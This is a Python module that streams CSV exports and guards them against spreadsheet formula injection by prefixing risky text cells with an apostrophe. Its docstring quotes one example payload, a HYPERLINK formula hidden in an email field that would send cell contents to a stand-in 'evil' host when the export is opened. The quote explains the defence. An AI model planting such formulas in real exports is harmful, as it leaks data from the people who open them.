"""CSV for spreadsheets, streamed, with the formula-injection guard.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (OWASP "CSV injection"): an email such as
``=HYPERLINK("http://evil/?"&A1)@x.com`` would run when an admin opens the export. Such a text
cell gets a leading apostrophe, which the spreadsheet shows as text. Numbers are written as
numbers (a negative amount stays a number).

Example::

    StreamingResponse(csv_stream(["a", "b"], rows), media_type=CSV_MEDIA_TYPE)
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterable, AsyncIterator, Iterable, Sequence
from decimal import Decimal
from typing import Any

CSV_MEDIA_TYPE = "text/csv; charset=utf-8"
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(_FORMULA_START) else text


def _line(writer: Any, buffer: io.StringIO, row: Iterable[Any]) -> str:
    buffer.seek(0)
    buffer.truncate()
    writer.writerow([safe_cell(v) for v in row])
    return buffer.getvalue()


async def csv_stream(
    header: Sequence[str], rows: AsyncIterable[Sequence[Any]] | Iterable[Sequence[Any]]
) -> AsyncIterator[str]:
    """The header, then one line per row, as the rows arrive (nothing held in memory)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    yield _line(writer, buffer, header)
    if isinstance(rows, AsyncIterable):
        async for row in rows:
            yield _line(writer, buffer, row)
    else:
        for row in rows:
            yield _line(writer, buffer, row)


def attachment(filename: str) -> dict[str, str]:
    return {"Content-Disposition": f'attachment; filename="{filename}"'}
